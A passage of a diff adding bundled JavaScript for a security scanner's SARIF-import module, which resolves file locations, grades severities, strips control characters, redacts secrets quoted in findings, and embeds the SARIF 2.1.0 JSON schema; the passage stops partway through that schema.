+    const declared = typeof property === 'string' ? [property] : guards_list(property).flatMap((v) => guards_text(v) ?? []);
+    return [...ruleTags(rule), ...declared].flatMap((tag) => cweFromTag(tag) ?? []);
+}
+function isCweTaxonomy(name) {
+    return name !== undefined && /^(?:cwe|common weakness enumeration)$/i.test(name.trim());
+}
+/**
+ * The taxonomy a reference points into. `toolComponent.index` indexes `run.taxonomies` for taxa
+ * (SARIF §3.54.3); a name or guid is matched when the index is absent or wrong.
+ */
+function taxonomyOf(run, ref) {
+    const target = ref.toolComponent;
+    if (!target)
+        return undefined;
+    const byIndex = target.index === undefined ? undefined : run.taxonomies[target.index];
+    if (byIndex && (target.name === undefined || byIndex.name === target.name))
+        return byIndex;
+    return run.taxonomies.find((taxonomy) => (target.guid !== undefined && taxonomy.guid === target.guid) ||
+        (target.name !== undefined && taxonomy.name === target.name));
+}
+/** A CWE id for a reference into a CWE taxonomy (by taxon id, or by index into its `taxa`). */
+function cweFromTaxonRef(run, ref) {
+    const taxonomy = taxonomyOf(run, ref);
+    if (!isCweTaxonomy(taxonomy?.name ?? ref.toolComponent?.name))
+        return undefined;
+    const id = ref.id ?? (ref.index === undefined ? undefined : taxonomy?.taxa[ref.index]?.id);
+    const match = id === undefined ? null : CWE_TAXON.exec(id.trim());
+    return match?.[1] ? `CWE-${match[1]}` : undefined;
+}
+/** Every CWE id a rule declares: tags, a `cwe` property, and relationships to a CWE taxonomy. */
+function ruleCwes(run, rule) {
+    const related = (rule?.relationships ?? []).flatMap((ref) => cweFromTaxonRef(run, ref) ?? []);
+    return [...new Set([...cweFromProperties(rule), ...related])];
+}
+
+;// CONCATENATED MODULE: ./src/scanners/sarif-import/locations.ts
+
+
+/** `originalUriBaseIds` may refer to each other; a deeper chain than this is treated as a cycle. */
+const MAX_BASE_DEPTH = 8;
+const SCHEME = /^[A-Za-z][A-Za-z0-9+.-]*:/;
+const WINDOWS_DRIVE = /^[A-Za-z]:\//;
+/** Percent-decodes a URI path; undefined for a malformed escape or a NUL, which no file name holds. */
+function decodePath(encoded) {
+    try {
+        const decoded = decodeURIComponent(encoded).replaceAll('\\', '/');
+        return decoded.includes('\0') ? undefined : decoded;
+    }
+    catch {
+        return undefined;
+    }
+}
+function fileUriPath(uri) {
+    let url;
+    try {
+        url = new URL(uri);
+    }
+    catch {
+        return { kind: 'invalid' };
+    }
+    // `file://server/share/…` is another machine's file, never one in this checkout.
+    if (url.host !== '' && url.host !== 'localhost')
+        return { kind: 'foreign' };
+    const path = decodePath(url.pathname);
+    return path === undefined ? { kind: 'invalid' } : { kind: 'absolute', path: external_node_path_.posix.normalize(path) };
+}
+function resolveUri(run, ref, depth) {
+    const uri = ref.uri;
+    if (uri === undefined || depth > MAX_BASE_DEPTH)
+        return { kind: 'invalid' };
+    const backslashed = uri.replaceAll('\\', '/');
+    if (WINDOWS_DRIVE.test(backslashed))
+        return decodedTarget(`/${backslashed}`);
+    if (SCHEME.test(uri))
+        return /^file:/i.test(uri) ? fileUriPath(uri) : { kind: 'foreign' };
+    // A query or fragment is not part of a file's path (a literal `?` or `#` in a name is percent-encoded).
+    const path = decodePath(uri.replace(/[?#].*$/s, ''));
+    if (path === undefined)
+        return { kind: 'invalid' };
+    if (path.startsWith('/'))
+        return { kind: 'absolute', path: external_node_path_.posix.normalize(path) };
+    const base = ref.uriBaseId === undefined ? undefined : run.originalUriBaseIds.get(ref.uriBaseId);
+    // An unknown base id (CodeQL's %SRCROOT% often comes without a definition) is the checkout itself,
+    // which is how GitHub code scanning reads it too.
+    if (base?.uri === undefined)
+        return { kind: 'relative', path };
+    const resolvedBase = resolveUri(run, base, depth + 1);
+    if (resolvedBase.kind === 'absolute')
+        return { kind: 'absolute', path: external_node_path_.posix.join(resolvedBase.path, path) };
+    if (resolvedBase.kind === 'relative')
+        return { kind: 'relative', path: external_node_path_.posix.join(resolvedBase.path, path) };
+    return resolvedBase;
+}
+function decodedTarget(path) {
+    const decoded = decodePath(path);
+    return decoded === undefined ? { kind: 'invalid' } : { kind: 'absolute', path: external_node_path_.posix.normalize(decoded) };
+}
+/**
+ * Absolute directories the producer declared in `originalUriBaseIds`, shortest first: the checkout on
+ * the machine that wrote the SARIF, which may not be where Vouch runs (another runner, a container).
+ * Only bases given as absolute URIs count; one defined relative to another is a part of it, or a way out.
+ */
+function foreignRoots(run) {
+    const roots = new Set();
+    for (const base of run.originalUriBaseIds.values()) {
+        if (base.uriBaseId !== undefined)
+            continue;
+        const target = resolveUri(run, base, 0);
+        if (target.kind === 'absolute' && target.path !== '/')
+            roots.add(target.path);
+    }
+    return [...roots].sort((a, b) => a.length - b.length);
+}
+function inside(base, path) {
+    const relative = external_node_path_.posix.relative(base, path);
+    if (relative === '' || relative === '..' || relative.startsWith('../') || external_node_path_.posix.isAbsolute(relative)) {
+        return relative === '' ? '' : undefined;
+    }
+    return relative;
+}
+/** A repository path for an absolute one: under our root, else under the producer's declared roots. */
+function repoPathOf(root, roots, path) {
+    const ours = inside(external_node_path_.posix.normalize(root.replaceAll('\\', '/')), path);
+    if (ours !== undefined)
+        return ours;
+    for (const foreign of roots) {
+        const theirs = inside(foreign, path);
+        if (theirs !== undefined)
+            return theirs;
+    }
+    return undefined;
+}
+function locations_positive(value) {
+    return value !== undefined && value >= 1;
+}
+function toRegion(region) {
+    if (!region || !locations_positive(region.startLine))
+        return undefined;
+    const { startLine, startColumn, endLine, endColumn } = region;
+    return {
+        startLine,
+        ...(locations_positive(startColumn) ? { startColumn } : {}),
+        ...(locations_positive(endLine) && endLine >= startLine ? { endLine } : {}),
+        ...(locations_positive(endColumn) ? { endColumn } : {}),
+    };
+}
+/** The artifact a location names, following `artifactLocation.index` into `run.artifacts`. */
+function artifactOf(run, ref) {
+    if (ref.uri !== undefined || ref.index === undefined)
+        return ref;
+    const listed = run.artifacts[ref.index];
+    return listed ? { uri: listed.uri, uriBaseId: ref.uriBaseId ?? listed.uriBaseId } : ref;
+}
+/** Places results of one run in the repository at `root` (absolute). */
+function createPlacer(root, run) {
+    const roots = foreignRoots(run);
+    return {
+        place(locations) {
+            // The first location is the primary one (SARIF §3.27.12); the others are not where to fix it.
+            const primary = locations[0];
+            if (!primary)
+                return { kind: 'none' };
+            const target = resolveUri(run, artifactOf(run, primary.artifact), 0);
+            if (target.kind === 'invalid')
+                return { kind: 'none' };
+            if (target.kind === 'foreign')
+                return { kind: 'outside' };
+            const path = target.kind === 'absolute' ? repoPathOf(root, roots, target.path) : toRepoPath(root, target.path);
+            if (path === undefined)
+                return { kind: 'outside' };
+            if (path === '')
+                return { kind: 'none' };
+            const region = toRegion(primary.region);
+            return { kind: 'repo', location: { path, ...(region ? { region } : {}) } };
+        },
+    };
+}
+
+;// CONCATENATED MODULE: ./src/scanners/sarif-import/messages.ts
+/** Long enough for any real tool's message; a hostile file cannot flood summaries and comments. */
+const MAX_MESSAGE_LENGTH = 2000;
+/**
+ * Text without control characters other than newlines and tabs, trimmed: a hostile file could
+ * otherwise put terminal escape sequences into logs and job summaries.
+ */
+function cleanText(value) {
+    return value.replace(/\p{Cc}/gu, (char) => (char === '\n' || char === '\t' ? char : '')).trim();
+}
+/** `{{` and `}}` are literal braces; `{n}` is the n-th argument (SARIF §3.11.5). */
+const PLACEHOLDER = /\{\{|\}\}|\{(\d+)\}/g;
+function fill(template, args) {
+    return template.replace(PLACEHOLDER, (match, index) => {
+        if (index === undefined)
+            return match[0] ?? '';
+        return args[Number(index)] ?? match;
+    });
+}
+/**
+ * A result's message text: `message.text`, or the rule's (then the component's global) message string
+ * named by `message.id`, with its placeholders filled from `message.arguments`. A `text` that comes
+ * with no arguments is taken verbatim: tools put literal `{{ … }}` (Jinja, Go templates) in plain text
+ * without escaping it.
+ */
+function messageText(message, rule, components) {
+    let template = message.text;
+    if (template === undefined && message.id !== undefined) {
+        const id = message.id;
+        template =
+            rule?.messageStrings.get(id) ??
+                components.map((component) => component.globalMessageStrings.get(id)).find((found) => found);
+    }
+    if (template === undefined)
+        return undefined;
+    const filled = message.text !== undefined && message.arguments.length === 0
+        ? template
+        : fill(template, message.arguments);
+    const trimmed = cleanText(filled);
+    return trimmed.length > MAX_MESSAGE_LENGTH ? `${trimmed.slice(0, MAX_MESSAGE_LENGTH - 1)}…` : trimmed;
+}
+/** CWEs of rules about credentials in code or in the clear: their messages may quote the value. */
+const SECRET_CWES = new Set(['CWE-256', 'CWE-259', 'CWE-312', 'CWE-321', 'CWE-522', 'CWE-540', 'CWE-798']);
+const SECRET_WORDS = /secret|passw|credential|token|api[-_ ]?key|private[-_ ]?key|access[-_ ]?key/i;
+function isSecretRule(rule) {
+    return (rule.cwe.some((cwe) => SECRET_CWES.has(cwe)) ||
+        [rule.id, rule.name ?? '', ...rule.tags].some((word) => SECRET_WORDS.test(word)));
+}
+const messages_QUOTED = /(['"`])[^'"`\r\n]+\1/g;
+/** Long runs of key-like characters with a letter and a digit: tokens, keys, hashes of secrets. */
+const TOKEN_LIKE = /[A-Za-z0-9+/=_-]{16,}/g;
+/**
+ * Masks what a secret-finding rule's message may quote. Bandit's B105 writes "Possible hardcoded
+ * password: '<the password>'", and Vouch never puts a secret value in a finding (DESIGN.md).
+ */
+function redactSecrets(message) {
+    return message
+        .replace(messages_QUOTED, (_match, quote) => `${quote}[redacted]${quote}`)
+        .replace(TOKEN_LIKE, (token) => (/[A-Za-z]/.test(token) && /\d/.test(token) ? '[redacted]' : token));
+}
+
+;// CONCATENATED MODULE: ./src/scanners/sarif-import/rules.ts
+
+
+
+/**
+ * How a SARIF `level` becomes a Vouch severity when no `security-severity` score is given. SARIF has no
+ * "critical": only a score of 9 or more (GitHub's bands, severity.ts) makes a finding critical.
+ */
+const LEVEL_SEVERITY = {
+    error: 'high',
+    warning: 'medium',
+    note: 'low',
+    none: 'info',
+};
+const sarif_import_rules_PRECISIONS = ['very-high', 'high', 'medium', 'low'];
+/** Rule id for results that name no rule at all. */
+const UNIDENTIFIED_RULE = 'unidentified';
+const MAX_ID_LENGTH = 200;
+const MAX_TAG_LENGTH = 64;
+const MAX_HELP_LENGTH = 16_000;
+/** A driver name as one safe rule-id segment: `CodeQL` → `codeql`, `ESLint SARIF` → `eslint-sarif`. */
+function toolSegment(driverName) {
+    const segment = driverName
+        .toLowerCase()
+        .replace(/[^a-z0-9._-]+/g, '-')
+        .replace(/^[-.]+|[-.]+$/g, '')
+        .slice(0, 64);
+    return segment === '' ? 'unknown-tool' : segment;
+}
+/** A tool's own rule id, kept as written apart from control characters and length. */
+function cleanRuleId(id) {
+    const cleaned = id
+        .replace(/\p{Cc}/gu, '')
+        .trim()
+        .slice(0, MAX_ID_LENGTH);
+    return cleaned === '' ? UNIDENTIFIED_RULE : cleaned;
+}
+/** GitHub's `security-severity`: a numeric string in (0, 10]. A bare number is accepted too. */
+function securityScore(properties) {
+    const raw = properties?.['security-severity'];
+    const value = typeof raw === 'number'
+        ? raw
+        : typeof raw === 'string' && /^\s*\d+(?:\.\d+)?\s*$/.test(raw)
+            ? Number(raw)
+            : NaN;
+    return Number.isFinite(value) && value > 0 && value <= 10 ? value : undefined;
+}
+/**
+ * A result's severity: its own `security-severity`, else its rule's, else its level. The level is the
+ * result's `level`, else the rule's `defaultConfiguration.level`, else `warning` (SARIF §3.27.10); a
+ * result whose `kind` is not `fail` (review, open, informational) has level `none`.
+ */
+function gradeResult(result, rule) {
+    const score = securityScore(result.properties) ?? securityScore(rule?.properties);
+    if (score !== undefined)
+        return { severity: severityFromScore(score), securitySeverity: score };
+    const level = result.kind !== undefined && result.kind !== 'fail'
+        ? 'none'
+        : (result.level ?? rule?.defaultLevel ?? 'warning');
+    const severity = LEVEL_SEVERITY[level];
+    return { severity, securitySeverity: defaultScore(severity) };
+}
+function componentOf(run, result) {
+    const target = result.rule?.toolComponent;
+    if (!target)
+        return run.driver;
+    // For rules, `toolComponent.index` indexes `tool.extensions` (SARIF §3.54.3); a name matches either.
+    const byIndex = target.index === undefined ? undefined : run.extensions[target.index];
+    if (byIndex)
+        return byIndex;
+    return [run.driver, ...run.extensions].find((component) => (target.guid !== undefined && component.guid === target.guid) ||
+        (target.name !== undefined && component.name === target.name));
+}
+/**
+ * The rule a result refers to: by `rule.index`/`ruleIndex` in its component (the driver unless
+ * `rule.toolComponent` names an extension, as CodeQL's query packs do), else by id in the driver and
+ * then in every extension. An index that points at a rule with another id is not trusted.
+ */
+function findRule(run, result) {
+    const id = result.ruleId ?? result.rule?.id;
+    const component = componentOf(run, result);
+    const index = result.rule?.index ?? result.ruleIndex;
+    const indexed = index === undefined || index < 0 ? undefined : component?.rules[index];
+    if (indexed && (id === undefined || indexed.id === id))
+        return indexed;
+    if (id === undefined)
+        return undefined;
+    for (const candidate of [component, run.driver, ...run.extensions]) {
+        const found = candidate && rulesById(candidate).get(id);
+        if (found)
+            return found;
+    }
+    return undefined;
+}
+const RULES_BY_ID = new WeakMap();
+/** Rules of a component by id (the first of a duplicated id), built once: runs can hold 25,000 rules. */
+function rulesById(component) {
+    let byId = RULES_BY_ID.get(component);
+    if (!byId) {
+        const map = new Map();
+        for (const rule of component.rules)
+            if (!map.has(rule.id))
+                map.set(rule.id, rule);
+        byId = map;
+        RULES_BY_ID.set(component, byId);
+    }
+    return byId;
+}
+/** The result's own rule id as the tool wrote it. */
+function originalRuleId(result, rule) {
+    return cleanRuleId(result.ruleId ?? result.rule?.id ?? rule?.id ?? UNIDENTIFIED_RULE);
+}
+function precisionOf(rule) {
+    const declared = rule?.properties.precision;
+    return sarif_import_rules_PRECISIONS.find((precision) => precision === declared) ?? 'medium';
+}
+/** The tool's tags, minus CWE tags (Vouch renders those itself from `cwe`), plus where it came from. */
+function importedTags(rule, tool) {
+    const own = ruleTags(rule)
+        .map((tag) => tag.trim())
+        .filter((tag) => tag !== '' && tag.length <= MAX_TAG_LENGTH && cweFromTag(tag) === undefined);
+    return [...new Set([`tool/${tool}`, ...own])];
+}
+function httpUri(uri) {
+    return uri !== undefined && /^https?:\/\//i.test(uri) ? uri : undefined;
+}
+/** A Vouch rule for an imported one; its severity is raised later to its most severe result's. */
+function describeRule(input) {
+    const { rule, driver, originalId } = input;
+    const tool = cleanText(driver.name) || input.tool;
+    const name = cleanText(rule?.name ?? '') || originalId;
+    const short = cleanText(rule?.shortDescription ?? '') ||
+        (name === originalId ? `${tool} ${originalId}` : `${tool} ${originalId}: ${name}`);
+    const full = cleanText(rule?.fullDescription ?? '') || short;
+    const helpUri = httpUri(rule?.helpUri);
+    const provenance = [tool, driver.version && cleanText(driver.version)].filter(Boolean).join(' ');
+    const help = [
+        (cleanText(rule?.help ?? '') || full).slice(0, MAX_HELP_LENGTH),
+        '',
+        `Reported by ${provenance} and imported by Vouch from its SARIF output.${helpUri ? ` See ${helpUri}.` : ''}`,
+    ].join('\n');
+    const score = securityScore(rule?.properties);
+    return {
+        id: input.ruleId,
+        name,
+        shortDescription: short,
+        fullDescription: full,
+        help,
+        ...(helpUri ? { helpUri } : {}),
+        severity: score === undefined ? input.graded.severity : severityFromScore(score),
+        securitySeverity: score ?? input.graded.securitySeverity,
+        precision: precisionOf(rule),
+        cwe: input.cwe,
+        asvs: [],
+        tags: importedTags(rule, input.tool),
+    };
+}
+/** `rule` with a severity at least as high as `graded`, unless the tool scored the rule itself. */
+function raiseSeverity(rule, graded, scored) {
+    if (scored || severityRank(graded.severity) >= severityRank(rule.severity))
+        return rule;
+    return { ...rule, severity: graded.severity, securitySeverity: graded.securitySeverity };
+}
+
+;// CONCATENATED MODULE: ./src/scanners/sarif-import/normalize.ts
+
+
+
+
+function emptySetAside() {
+    return { suppressed: 0, absent: 0, notProblems: 0, outside: 0, excluded: 0, unlocated: new Map() };
+}
+/** Rules of every imported run, keyed by Vouch rule id; the first declaration of an id wins. */
+class RuleBook {
+    rules = new Map();
+    /**
+     * Records that a result of rule `id` was reported: declares the rule on first sight, adds the CWE ids
+     * of the result's own `taxa`, and raises an unscored rule to its most severe result. Returns the rule.
+     */
+    record(id, declare, graded, resultCwes) {
+        const entry = this.rules.get(id) ?? declare();
+        const raised = raiseSeverity(entry.rule, graded, entry.scored);
+        const cwe = [...new Set([...raised.cwe, ...resultCwes])];
+        const rule = cwe.length === raised.cwe.length ? raised : { ...raised, cwe };
+        this.rules.set(id, { rule, scored: entry.scored });
+        return rule;
+    }
+    descriptors() {
+        return [...this.rules.values()]
+            .map((entry) => entry.rule)
+            .sort((a, b) => (a.id < b.id ? -1 : a.id > b.id ? 1 : 0));
+    }
+}
+function isSuppressed(result) {
+    // Suppressed when at least one suppression exists and every one is accepted; an absent status counts as
+    // accepted, as in Microsoft's SARIF SDK. One under review or rejected keeps the result a finding.
+    return (result.suppressions.length > 0 &&
+        result.suppressions.every((status) => status === undefined || status === 'accepted'));
+}
+/** A result the tool itself says is not a current problem; counted, not reported. */
+function setAsideByTool(result, setAside) {
+    if (result.kind === 'pass' || result.kind === 'notApplicable')
+        setAside.notProblems += 1;
+    else if (result.baselineState === 'absent')
+        setAside.absent += 1;
+    else if (isSuppressed(result))
+        setAside.suppressed += 1;
+    else
+        return false;
+    return true;
+}
+function placeOrSetAside(placement, ruleId, target, setAside) {
+    if (placement.kind === 'outside')
+        setAside.outside += 1;
+    else if (placement.kind === 'none')
+        setAside.unlocated.set(ruleId, (setAside.unlocated.get(ruleId) ?? 0) + 1);
+    else if (!target.files.has(placement.location.path))
+        setAside.excluded += 1;
+    else
+        return placement.location;
+    return undefined;
+}
+function detectionOf(scope, result) {
+    const { run, tool } = scope;
+    const rule = findRule(run, result);
+    const originalId = originalRuleId(result, rule);
+    const ruleId = `${tool}/${originalId}`;
+    if (setAsideByTool(result, scope.setAside))
+        return undefined;
+    const location = placeOrSetAside(scope.placer.place(result.locations), ruleId, scope.target, scope.setAside);
+    if (!location)
+        return undefined;
+    const graded = gradeResult(result, rule);
+    const declare = () => ({
+        rule: describeRule({
+            ruleId,
+            originalId,
+            rule,
+            driver: run.driver,
+            tool,
+            cwe: ruleCwes(run, rule),
+            graded,
+        }),
+        scored: securityScore(rule?.properties) !== undefined,
+    });
+    const resultCwes = result.taxa.flatMap((ref) => cweFromTaxonRef(run, ref) ?? []);
+    const recorded = scope.book.record(ruleId, declare, graded, resultCwes);
+    const text = messageText(result.message, rule, [run.driver, ...run.extensions]) || recorded.shortDescription;
+    const secret = isSecretRule({ id: originalId, name: rule?.name, tags: recorded.tags, cwe: recorded.cwe });
+    return {
+        ruleId,
+        message: secret ? redactSecrets(text) : text,
+        location,
+        severity: graded.severity,
+        securitySeverity: graded.securitySeverity,
+    };
+}
+/**
+ * Detections of one imported run. Rule ids are `<tool>/<the tool's rule id>`, the tool being
+ * `tool.driver.name` made an id segment, so that results of several tools share the one `sarif` scanner
+ * run without losing where each came from. Only results whose primary location is a file discovery
+ * kept become detections; the others are counted in `setAside`.
+ */
+function importRun(run, target, book, setAside) {
+    const scope = {
+        run,
+        tool: toolSegment(run.driver.name),
+        target,
+        book,
+        setAside,
+        placer: createPlacer(target.root, run),
+    };
+    return (run.results ?? []).flatMap((result) => detectionOf(scope, result) ?? []);
+}
+
+// EXTERNAL MODULE: ./node_modules/ajv-draft-04/dist/index.js
+var ajv_draft_04_dist = __nccwpck_require__(905);
+var dist_default = /*#__PURE__*/__nccwpck_require__.n(ajv_draft_04_dist);
+;// CONCATENATED MODULE: ./data/schemas/sarif-2.1.0.json
+const sarif_2_1_0_namespaceObject = /*#__PURE__*/JSON.parse('{"$schema":"http://json-schema.org/draft-04/schema#","title":"Static Analysis Results Format (SARIF) Version 2.1.0-rtm.5 JSON Schema","id":"https://raw.githubusercontent.com/schemastore/schemastore/master/src/schemas/json/sarif-2.1.0-rtm.5.json","description":"Static Analysis Results Format (SARIF) Version 2.1.0-rtm.5 JSON Schema: a standard format for the output of static analysis tools.","additionalProperties":false,"type":"object","properties":{"$schema":{"description":"The URI of the JSON schema corresponding to the version.","type":"string","format":"uri"},"version":{"description":"The SARIF format version of this log file.","enum":["2.1.0"]},"runs":{"description":"The set of runs contained in this log file.","type":"array","minItems":0,"uniqueItems":false,"items":{"$ref":"#/definitions/run"}},"inlineExternalProperties":{"description":"References to external property files that share data between runs.","type":"array","minItems":0,"uniqueItems":true,"items":{"$ref":"#/definitions/externalProperties"}},"properties":{"description":"Key/value pairs that provide additional information about the log file.","$ref":"#/definitions/propertyBag"}},"required":["version","runs"],"definitions":{"address":{"description":"A physical or virtual address, or a range of addresses, in an \'addressable region\' (memory or a binary file).","additionalProperties":false,"type":"object","properties":{"absoluteAddress":{"description":"The address expressed as a byte offset from the start of the addressable region.","type":"integer","minimum":-1,"default":-1},"relativeAddress":{"description":"The address expressed as a byte offset from the absolute address of the top-most parent object.","type":"integer"},"length":{"description":"The number of bytes in this range of addresses.","type":"integer"},"kind":{"description":"An open-ended string that identifies the address kind. \'data\', \'function\', \'header\',\'instruction\', \'module\', \'page\', \'section\', \'segment\', \'stack\', \'stackFrame\', \'table\' are well-known values.","type":"string"},"name":{"description":"A name that is associated with the address, e.g., \'.text\'.","type":"string"},"fullyQualifiedName":{"description":"A human-readable fully qualified name that is associated with the address.","type":"string"},"offsetFromParent":{"description":"The byte offset of this address from the absolute or relative address of the parent object.","type":"integer"},"index":{"description":"The index within run.addresses of the cached object for this address.","type":"integer","default":-1,"minimum":-1},"parentIndex":{"description":"The index within run.addresses of the parent object.","type":"integer","default":-1,"minimum":-1},"properties":{"description":"Key/value pairs that provide additional information about the address.","$ref":"#/definitions/propertyBag"}}},"artifact":{"description":"A single artifact. In some cases, this artifact might be nested within another artifact.","additionalProperties":false,"type":"object","properties":{"description":{"description":"A short description of the artifact.","$ref":"#/definitions/message"},"location":{"description":"The location of the artifact.","$ref":"#/definitions/artifactLocation"},"parentIndex":{"description":"Identifies the index of the immediate parent of the artifact, if this artifact is nested.","type":"integer","default":-1,"minimum":-1},"offset":{"description":"The offset in bytes of the artifact within its containing artifact.","type":"integer","minimum":0},"length":{"description":"The length of the artifact in bytes.","type":"integer","default":-1,"minimum":-1},"roles":{"description":"The role or roles played by the artifact in the analysis.","type":"array","minItems":0,"uniqueItems":true,"default":[],"items":{"enum":["analysisTarget","attachment","responseFile","resultFile","standardStream","tracedFile","unmodified","modified","added","deleted","renamed","uncontrolled","driver","extension","translation","taxonomy","policy","referencedOnCommandLine","memoryContents","directory","userSpecifiedConfiguration","toolSpecifiedConfiguration","debugOutputFile"]}},"mimeType":{"description":"The MIME type (RFC 2045) of the artifact.","type":"string","pattern":"[^/]+/.+"},"contents":{"description":"The contents of the artifact.","$ref":"#/definitions/artifactContent"},"encoding":{"description":"Specifies the encoding for an artifact object that refers to a text file.","type":"string"},"sourceLanguage":{"description":"Specifies the source language for any artifact object that refers to a text file that contains source code.","type":"string"},"hashes":{"description":"A dictionary, each of whose keys is the name of a hash function and each of whose values is the hashed value of the artifact produced by the specified hash function.","type":"object","additionalProperties":{"type":"string"}},"lastModifiedTimeUtc":{"description":"The Coordinated Universal Time (UTC) date and time at which the artifact was most recently modified. See \\"Date/time properties\\" in the SARIF spec for the required format.","type":"string","format":"date-time"},"properties":{"description":"Key/value pairs that provide additional information about the artifact.","$ref":"#/definitions/propertyBag"}}},"artifactChange":{"description":"A change to a single artifact.","additionalProperties":false,"type":"object","properties":{"artifactLocation":{"description":"The location of the artifact to change.","$ref":"#/definitions/artifactLocation"},"replacements":{"description":"An array of replacement objects, each of which represents the replacement of a single region in a single artifact specified by \'artifactLocation\'.","type":"array","minItems":1,"uniqueItems":false,"items":{"$ref":"#/definitions/replacement"}},"properties":{"description":"Key/value pairs that provide additional information about the change.","$ref":"#/definitions/propertyBag"}},"required":["artifactLocation","replacements"]},"artifactContent":{"description":"Represents the contents of an artifact.","type":"object","additionalProperties":false,"properties":{"text":{"description":"UTF-8-encoded content from a text artifact.","type":"string"},"binary":{"description":"MIME Base64-encoded content from a binary artifact, or from a text artifact in its original encoding.","type":"string"},"rendered":{"description":"An alternate rendered representation of the artifact (e.g., a decompiled representation of a binary region).","$ref":"#/definitions/multiformatMessageString"},"properties":{"description":"Key/value pairs that provide additional information about the artifact content.","$ref":"#/definitions/propertyBag"}}},"artifactLocation":{"description":"Specifies the location of an artifact.","additionalProperties":false,"type":"object","properties":{"uri":{"description":"A string containing a valid relative or absolute URI.","type":"string","format":"uri-reference"},"uriBaseId":{"description":"A string which indirectly specifies the absolute URI with respect to which a relative URI in the \\"uri\\" property is interpreted.","type":"string"},"index":{"description":"The index within the run artifacts array of the artifact object associated with the artifact location.","type":"integer","default":-1,"minimum":-1},"description":{"description":"A short description of the artifact location.","$ref":"#/definitions/message"},"properties":{"description":"Key/value pairs that provide additional information about the artifact location.","$ref":"#/definitions/propertyBag"}}},"attachment":{"description":"An artifact relevant to a result.","type":"object","additionalProperties":false,"properties":{"description":{"description":"A message describing the role played by the attachment.","$ref":"#/definitions/message"},"artifactLocation":{"description":"The location of the attachment.","$ref":"#/definitions/artifactLocation"},"regions":{"description":"An array of regions of interest within the attachment.","type":"array","minItems":0,"uniqueItems":true,"default":[],"items":{"$ref":"#/definitions/region"}},"rectangles":{"description":"An array of rectangles specifying areas of interest within the image.","type":"array","minItems":0,"uniqueItems":true,"default":[],"items":{"$ref":"#/definitions/rectangle"}},"properties":{"description":"Key/value pairs that provide additional information about the attachment.","$ref":"#/definitions/propertyBag"}},"required":["artifactLocation"]},"codeFlow":{"description":"A set of threadFlows which together describe a pattern of code execution relevant to detecting a result.","additionalProperties":false,"type":"object","properties":{"message":{"description":"A message relevant to the code flow.","$ref":"#/definitions/message"},"threadFlows":{"description":"An array of one or more unique threadFlow objects, each of which describes the progress of a program through a thread of execution.","type":"array","minItems":1,"uniqueItems":false,"items":{"$ref":"#/definitions/threadFlow"}},"properties":{"description":"Key/value pairs that provide additional information about the code flow.","$ref":"#/definitions/propertyBag"}},"required":["threadFlows"]},"configurationOverride":{"description":"Information about how a specific rule or notification was reconfigured at runtime.","type":"object","additionalProperties":false,"properties":{"configuration":{"description":"Specifies how the rule or notification was configured during the scan.","$ref":"#/definitions/reportingConfiguration"},"descriptor":{"description":"A reference used to locate the descriptor whose configuration was overridden.","$ref":"#/definitions/reportingDescriptorReference"},"properties":{"description":"Key/value pairs that provide additional information about the configuration override.","$ref":"#/definitions/propertyBag"}},"required":["configuration","descriptor"]},"conversion":{"description":"Describes how a converter transformed the output of a static analysis tool from the analysis tool\'s native output format into the SARIF format.","additionalProperties":false,"type":"object","properties":{"tool":{"description":"A tool object that describes the converter.","$ref":"#/definitions/tool"},"invocation":{"description":"An invocation object that describes the invocation of the converter.","$ref":"#/definitions/invocation"},"analysisToolLogFiles":{"description":"The locations of the analysis tool\'s per-run log files.","type":"array","minItems":0,"uniqueItems":true,"default":[],"items":{"$ref":"#/definitions/artifactLocation"}},"properties":{"description":"Key/value pairs that provide additional information about the conversion.","$ref":"#/definitions/propertyBag"}},"required":["tool"]},"edge":{"description":"Represents a directed edge in a graph.","type":"object","additionalProperties":false,"properties":{"id":{"description":"A string that uniquely identifies the edge within its graph.","type":"string"},"label":{"description":"A short description of the edge.","$ref":"#/definitions/message"},"sourceNodeId":{"description":"Identifies the source node (the node at which the edge starts).","type":"string"},"targetNodeId":{"description":"Identifies the target node (the node at which the edge ends).","type":"string"},"properties":{"description":"Key/value pairs that provide additional information about the edge.","$ref":"#/definitions/propertyBag"}},"required":["id","sourceNodeId","targetNodeId"]},"edgeTraversal":{"description":"Represents the traversal of a single edge during a graph traversal.","type":"object","additionalProperties":false,"properties":{"edgeId":{"description":"Identifies the edge being traversed.","type":"string"},"message":{"description":"A message to display to the user as the edge is traversed.","$ref":"#/definitions/message"},"finalState":{"description":"The values of relevant expressions after the edge has been traversed.","type":"object","additionalProperties":{"$ref":"#/definitions/multiformatMessageString"}},"stepOverEdgeCount":{"description":"The number of edge traversals necessary to return from a nested graph.","type":"integer","minimum":0},"properties":{"description":"Key/value pairs that provide additional information about the edge traversal.","$ref":"#/definitions/propertyBag"}},"required":["edgeId"]},"exception":{"description":"Describes a runtime exception encountered during the execution of an analysis tool.","type":"object","additionalProperties":false,"properties":{"kind":{"type":"string","description":"A string that identifies the kind of exception, for example, the fully qualified type name of an object that was thrown, or the symbolic name of a signal."},"message":{"description":"A message that describes the exception.","type":"string"},"stack":{"description":"The sequence of function calls leading to the exception.","$ref":"#/definitions/stack"},"innerExceptions":{"description":"An array of exception objects each of which is considered a cause of this exception.","type":"array","minItems":0,"uniqueItems":false,"default":[],"items":{"$ref":"#/definitions/exception"}},"properties":{"description":"Key/value pairs that provide additional information about the exception.","$ref":"#/definitions/propertyBag"}}},"externalProperties":{"description":"The top-level element of an external property file.","type":"object","additionalProperties":false,"properties":{"schema":{"description":"The URI of the JSON schema corresponding to the version of the external property file format.","type":"string","format":"uri"},"version":{"description":"The SARIF format version of this external properties object.","enum":["2.1.0"]},"guid":{"description":"A stable, unique identifier for this external properties object, in the form of a GUID.","type":"string","pattern":"^[0-9a-fA-F]{8}-[0-9a-fA-F]{4}-[1-5][0-9a-fA-F]{3}-[89abAB][0-9a-fA-F]{3}-[0-9a-fA-F]{12}$"},"runGuid":{"description":"A stable, unique identifier for the run associated with this external properties object, in the form of a GUID.","type":"string","pattern":"^[0-9a-fA-F]{8}-[0-9a-fA-F]{4}-[1-5][0-9a-fA-F]{3}-[89abAB][0-9a-fA-F]{3}-[0-9a-fA-F]{12}$"},"conversion":{"description":"A conversion object that will be merged with a separate run.","$ref":"#/definitions/conversion"},"graphs":{"description":"An array of graph objects that will be merged with a separate run.","type":"array","minItems":0,"default":[],"uniqueItems":true,"items":{"$ref":"#/definitions/graph"}},"externalizedProperties":{"description":"Key/value pairs that provide additional information that will be merged with a separate 